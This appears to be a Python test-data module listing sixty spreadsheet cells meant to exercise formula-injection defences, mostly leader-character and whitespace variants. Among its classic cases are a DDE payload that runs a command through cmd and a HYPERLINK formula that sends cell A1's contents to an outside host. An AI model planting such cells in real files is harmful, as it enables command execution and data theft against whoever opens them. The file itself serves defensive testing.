"""Sixty cells that a spreadsheet might run, or that might break a file, each different from the others."""

LEADERS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\u00a0", "\ufeff")
CLASSICS = (
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "1+1=2",
    "plain, with a comma",
    'plain "with quotes"',
    "line one\r\n=1+1",
    "line one\n=1+1",
    'ends with a quote"',
    "naïve – “青竹” 🎬",
    "' =1+1",
)
SPACED = (
    *(before + leader for leader in LEADERS for before in BEFORE[:3]),
    BEFORE[3] + "=",
    BEFORE[3] + "@",
)
HOSTILE = (*(f"{start}1+{n}" for n, start in enumerate(SPACED)), *CLASSICS)
assert len(set(HOSTILE)) == 60
